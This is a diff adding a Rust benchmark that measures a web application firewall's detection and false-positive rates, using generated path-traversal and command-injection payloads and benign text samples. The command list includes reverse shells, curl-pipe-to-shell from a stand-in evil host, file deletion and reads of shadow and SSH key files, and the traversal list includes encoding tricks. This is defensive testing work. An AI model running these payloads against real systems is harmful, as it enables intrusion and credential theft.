@@ -1,0 +1,551 @@
+//! Detection figures on corpora this project makes itself, never on the CRS half the rules
+//! were written against: `cargo run --release -p rampart-plugins --example detection
+//! [-- --misses FAMILY | --false-positives]`.
+//!
+//! Attacks are generated from each injection language's grammar (a payload is a walk through
+//! choices: where it breaks out, what it runs, how it is spelled and encoded), benign texts are
+//! read from this machine (the prose of /usr/share/doc) and composed from templates of
+//! support questions that use command and SQL words as English. Every case is assigned to the
+//! tuning split or the held-out split by a hash of its text: rules are tuned on the first and
+//! figures are reported on both, so that a rule written for one case shows as a gap between
+//! the two.
+//!
+//! Each case is sent the way the held-out suites send theirs: as a query parameter and as a
+//! form field.
+
+use std::collections::BTreeMap;
+use std::io::Read;
+
+use http::{HeaderMap, HeaderName, HeaderValue, Method};
+use rampart_plugins::plugins::owasp::{Waf, WafConfig};
+use rampart_plugins::RequestView;
+use rules_dir::RulesDir;
+
+#[path = "../tests/support/rules_dir.rs"]
+mod rules_dir;
+
+/// A small deterministic generator (xorshift), so that every run makes the same corpora.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
+        from[(self.next() % from.len() as u64) as usize]
+    }
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+}
+
+/// FNV-1a: which split a case belongs to.
+fn held_out(text: &str) -> bool {
+    let mut h: u64 = 0xcbf29ce484222325;
+    for b in text.bytes() {
+        h = (h ^ u64::from(b)).wrapping_mul(0x100000001b3);
+    }
+    h % 10 >= 7
+}
+
+// ---- attacks, from grammars ----
+
+/// Path traversal: `prefix (climb separator){depth} target suffix`, each part spelled in
+/// one of the ways servers decode: percent (once, twice), overlong UTF-8, `%u`, full-width,
+/// backslashes, doubled dots.
+fn traversal(rng: &mut Rng) -> String {
+    let dots = [
+        "..",
+        "%2e%2e",
+        "%2E%2E",
+        "..%00",
+        "%252e%252e",
+        "%c0%ae%c0%ae",
+        "%uff0e%uff0e",
+        "%u002e%u002e",
+        ".%2e",
+        "%2e.",
+        "....",
+        "...",
+        "0x2e0x2e",
+        "%e0%80%ae%e0%80%ae",
+        "\u{ff0e}\u{ff0e}",
+    ];
+    let seps = [
+        "/",
+        "\\",
+        "%2f",
+        "%5c",
+        "%2F",
+        "%5C",
+        "%252f",
+        "%255c",
+        "%c0%af",
+        "%c1%9c",
+        "%u2215",
+        "%u2216",
+        "%uff0f",
+        "//",
+        "\\\\",
+        "/./",
+        "%e0%80%af",
+        "\u{ff0f}",
+        "..;/",
+    ];
+    let targets = [
+        "etc/passwd",
+        "etc/shadow",
+        "etc/hosts",
+        "windows/win.ini",
+        "winnt/win.ini",
+        "boot.ini",
+        "windows/system32/drivers/etc/hosts",
+        "proc/self/environ",
+        "var/log/apache2/access.log",
+        "etc/nginx/nginx.conf",
+        "home/user/.ssh/id_rsa",
+        "WEB-INF/web.xml",
+        "app/config/parameters.yml",
+        ".env",
+        "etc/issue",
+        "usr/local/app/settings.py",
+        "inetpub/wwwroot/web.config",
+    ];
+    let prefixes = [
+        "",
+        "",
+        "",
+        "/",
+        "./",
+        "images/",
+        "file=",
+        "C:",
+        "static/",
+        "/var/www/",
+    ];
+    let suffixes = ["", "", "", "%00", "%00.jpg", "?", "#", ".html", "%23"];
+    let depth = 1 + rng.below(8);
+    let (d, s) = (rng.pick(&dots), rng.pick(&seps));
+    let mut out = rng.pick(&prefixes).to_string();
+    for _ in 0..depth {
+        out.push_str(d);
+        out.push_str(s);
+    }
+    let target = rng.pick(&targets);
+    let target = if s.contains('\\') || s.contains("5c") || s.contains("5C") {
+        target.replace('/', s)
+    } else {
+        target.to_string()
+    };
+    out.push_str(&target);
+    out.push_str(rng.pick(&suffixes));
+    out
+}
+
+/// Command injection: `[value] separator [prefix] command arguments [terminator]`, with
+/// the shell's own ways of hiding a word (quotes, `${IFS}`, backslashes, variables).
+fn command(rng: &mut Rng) -> String {
+    let values = ["", "", "127.0.0.1", "x", "1", "report.pdf", "admin"];
+    let seps = [
+        ";", "|", "||", "&&", "&", "\n", "`", "$(", "%0a", "%3b", "%7c", "\r\n",
+    ];
+    let commands = [
+        "cat /etc/passwd",
+        "id",
+        "uname -a",
+        "whoami",
+        "ls -la /",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "curl http://evil.example/x.sh|sh",
+        "wget http://evil.example/x -O /tmp/x",
+        "sleep 5",
+        "ping -c 3 127.0.0.1",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "rm -rf /tmp/*",
+        "python -c 'import os;os.system(\"id\")'",
+        "perl -e 'system(\"id\")'",
+        "echo pwned",
+        "cat${IFS}/etc/passwd",
+        "c'a't /etc/shadow",
+        "who\\ami",
+        "/bin/ca?  /etc/pa??wd",
+        "env",
+        "ps aux",
+        "net user",
+        "type C:\\windows\\win.ini",
+        "powershell -enc SQBFAFgA",
+        "cmd /c dir",
+        "find / -name id_rsa",
+        "head -n1 /etc/passwd",
+        "base64 /etc/shadow",
+    ];
+    let ends = ["", "", "", ";", "#", "`", ")", " &", "%00"];
+    let sep = rng.pick(&seps);
+    let mut out = format!("{}{sep}", rng.pick(&values));
+    if rng.below(4) == 0 {
+        out.push(' ');
+    }
+    out.push_str(rng.pick(&commands));
+    let end = if sep == "$(" {
+        ")"
+    } else if sep == "`" {
+        "`"
+    } else {
+        rng.pick(&ends)
+    };
+    out.push_str(end);
+    out
+}
+
+// ---- benign texts ----
+
+/// Support questions and how-tos that use command and SQL words as English, the way people
+/// write them: at the start, after punctuation, before a colon.
+fn support_question(rng: &mut Rng) -> String {
+    let openers = [
+        "Find",
+        "Sort",
+        "Which",
+        "Make",
+        "Test",
+        "Watch",
+        "Kill",
+        "Cut",
+        "Join",
+        "Select",
+        "Update",
+        "Delete",
+        "Drop",
+        "Show",
+        "Set",
+        "Echo",
+        "Touch",
+        "Head",
+        "Tail",
+        "Split",
+        "Read",
+        "Write",
+        "Wait",
+        "Print",
+        "Date",
+        "Free",
+        "Time",
+        "Source",
+        "Export",
+        "Type",
+        "Top",
+        "Who",
+        "Less",
+        "More",
+        "Help",
+        "Python",
+        "JavaScript",
+        "PHP",
+        "Java",
+        "Ruby",
+        "Perl",
+        "SQL",
+        "Bash",
+    ];
+    let middles = [
+        "my order from last week",
+        "the cheapest flights to Lisbon",
+        "all invoices by date",
+        "me a summary of the meeting",
+        "why the page loads slowly",
+        "a new password for my account",
+        "the items in my cart",
+        "the best way to learn it",
+        "how closures work",
+        "arrays and loops",
+        "the tickets that are still open",
+        "users who signed up in March",
+        "the report before Friday",
+        "a column to the spreadsheet",
+        "the difference between union and join",
+    ];
+    let closers = [
+        "?",
+        ".",
+        "",
+        " please.",
+        " - thanks!",
+        " :)",
+        "; is that possible?",
+        "!",
+    ];
+    let joiners = [" ", ": ", ", ", " - ", "; "];
+    let mut out = String::new();
+    for i in 0..1 + rng.below(2) {
+        if i > 0 {
+            out.push_str(rng.pick(&["; ", ". ", "\n", " and "]));
+        }
+        out.push_str(rng.pick(&openers));
+        out.push_str(rng.pick(&joiners));
+        out.push_str(rng.pick(&middles));
+    }
+    out.push_str(rng.pick(&closers));
+    out
+}
+
+/// Sentences of the documentation installed on this machine (plain and gzip files under
+/// /usr/share/doc), 30 to 200 characters, mostly letters.
+fn documentation_sentences(limit: usize) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut dirs = vec![std::path::PathBuf::from("/usr/share/doc")];
+    let mut files = Vec::new();
+    while let Some(dir) = dirs.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for e in entries.flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                dirs.push(p);
+            } else if !p.ends_with("copyright") {
+                files.push(p);
+            }
+        }
+    }
+    files.sort();
+    for f in files {
+        let Ok(raw) = std::fs::read(&f) else { continue };
+        let text = if f.extension().is_some_and(|e| e == "gz") {
+            let mut s = String::new();
+            if flate2::read::GzDecoder::new(&raw[..])
+                .take(1 << 20)
+                .read_to_string(&mut s)
+                .is_err()
+            {
+                continue;
+            }
+            s
+        } else {
+            match String::from_utf8(raw) {
+                Ok(s) => s,
+                Err(_) => continue,
+            }
+        };
+        let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
+        for sentence in flat.split_inclusive(". ") {
+            let s = sentence.trim();
+            let letters = s.chars().filter(|c| c.is_alphabetic() || *c == ' ').count();
+            if (30..=200).contains(&s.len()) && letters * 10 >= s.len() * 9 {
+                out.push(s.to_string());
+                if out.len() >= limit {
+                    return out;
+                }
+            }
+        }
+    }
+    out
+}
+
+// ---- judging ----
+
+fn wafs() -> [Waf; 2] {
+    let ctx = RulesDir::shipped();
+    let build = |name| {
+        let config: WafConfig =
+            toml::from_str("paranoia = 1\nthreshold = 5").unwrap_or_else(|e| panic!("{e}"));
+        Waf::build(name, config, &ctx).unwrap_or_else(|e| panic!("{e}"))
+    };
+    [build("owasp"), build("bad_inputs")]
+}
+
+fn form_encode(v: &str) -> String {
+    v.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                (b as char).to_string()
+            }
+            b' ' => "+".to_string(),
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+/// The rules that refuse `value` sent as a query parameter, and as a form field.
+fn refused(wafs: &[Waf], value: &str) -> [Vec<String>; 2] {
+    // A payload written with its own percent escapes is sent as written (a client's encoding
+    // of it is not what the attacker typed): only characters that would break the parameter
+    // are escaped.
+    let raw_param = value
+        .replace(' ', "%20")
+        .replace('&', "%26")
+        .replace('#', "%23")
+        .replace('+', "%2B")
+        .replace('\n', "%0A")
+        .replace('\r', "%0D");
+    let param = if value.contains('%') {
+        raw_param
+    } else {
+        form_encode(value)
+    };
+    let query = format!("q={param}");
+    let mut headers = HeaderMap::new();
+    for (k, v) in [
+        ("host", "shop.example.com"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+        ),
+        ("accept", "text/html,application/xhtml+xml"),
+    ] {
+        headers.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
+    }
+    let get = judge(wafs, &Method::GET, "/search", Some(&query), &headers, None);
+    headers.insert(
+        HeaderName::from_static("content-type"),
+        HeaderValue::from_static("application/x-www-form-urlencoded"),
+    );
+    let post = judge(
+        wafs,
+        &Method::POST,
+        "/search",
+        None,
+        &headers,
+        Some(query.as_bytes()),
+    );
+    [get, post]
+}
+
+fn judge(
+    wafs: &[Waf],
+    method: &Method,
+    path: &str,
+    query: Option<&str>,
+    headers: &HeaderMap,
+    body: Option<&[u8]>,
+) -> Vec<String> {
+    let peer = std::net::IpAddr::from([198, 51, 100, 7]);
+    let view = RequestView {
+        listener: "web",
+        route: "app",
+        peer,
+        client: peer,
+        method,
+        path,
+        query,
+        headers,
+        consumed: &[],
+        body,
+        identity: None,
+        inspections: None,
+    };
+    let mut labels = Vec::new();
+    for w in wafs {
+        let a = w.assess(&view);
+        if a.score >= 5 || a.body_problem.is_some() {
+            labels.extend(
+                a.matches
+                    .iter()
+                    .map(|(m, _)| w.rules().rules[m.rule].id.clone()),
+            );
+            if let Some(p) = a.body_problem {
+                labels.push(p.refusal().1.to_string());
+            }
+        }
+    }
+    labels
+}
+
+#[derive(Default)]
+struct Tally {
+    cases: usize,
+    refused: usize,
+}
+
+fn main() {
+    let args: Vec<String> = std::env::args().collect();
+    let show_misses = args
+        .iter()
+        .position(|a| a == "--misses")
+        .and_then(|i| args.get(i + 1))
+        .cloned();
+    let show_fp = args.iter().any(|a| a == "--false-positives");
+    let wafs = wafs();
+    let mut rng = Rng(0x9e3779b97f4a7c15);
+
+    let mut corpora: Vec<(&str, bool, Vec<String>)> = Vec::new();
+    let gen = |rng: &mut Rng, n: usize, f: fn(&mut Rng) -> String| {
+        let mut v: Vec<String> = (0..n).map(|_| f(rng)).collect();
+        v.sort();
+        v.dedup();
+        v
+    };
+    corpora.push(("traversal", true, gen(&mut rng, 3000, traversal)));
+    corpora.push(("command", true, gen(&mut rng, 3000, command)));
+    corpora.push((
+        "support-questions",
+        false,
+        gen(&mut rng, 3000, support_question),
+    ));
+    corpora.push(("documentation", false, documentation_sentences(3000)));
+
+    println!(
+        "{:<20} {:>6} {:>8} {:>8}   {:>6} {:>8} {:>8}",
+        "corpus", "tune", "query", "form", "held", "query", "form"
+    );
+    for (name, attack, cases) in &corpora {
+        let mut t: BTreeMap<bool, [Tally; 2]> = BTreeMap::new();
+        for case in cases {
+            let split = held_out(case);
+            let verdicts = refused(&wafs, case);
+            let entry = t.entry(split).or_default();
+            for (i, labels) in verdicts.iter().enumerate() {
+                entry[i].cases += 1;
+                entry[i].refused += usize::from(!labels.is_empty());
+                let wrong = if *attack {
+                    labels.is_empty()
+                } else {
+                    !labels.is_empty()
+                };
+                let asked = if *attack {
+                    show_misses.as_deref() == Some(*name)
+                } else {
+                    show_fp && split
+                };
+                if wrong && asked && i == 0 {
+                    println!(
+                        "  {} {:?} {labels:?}",
+                        if *attack { "MISS" } else { "FP" },
+                        case
+                    );
+                }
+            }
+        }
+        let rate = |x: &Tally| {
+            if x.cases == 0 {
+                0.0
+            } else {
+                x.refused as f64 / x.cases as f64
+            }
+        };
+        let tune = t.get(&false);
+        let held = t.get(&true);
+        let fmt = |s: Option<&[Tally; 2]>| match s {
+            Some(s) => format!(
+                "{:>6} {:>8.3} {:>8.3}",
+                s[0].cases,
+                rate(&s[0]),
+                rate(&s[1])
+            ),
+            None => format!("{:>6} {:>8} {:>8}", 0, "-", "-"),
+        };
+        println!(
+            "{:<20} {}   {}   ({})",
+            name,
+            fmt(tune),
+            fmt(held),
+            if *attack {
+                "refused = detected"
+            } else {
+                "refused = false positive"
+            }
+        );
+    }
+}
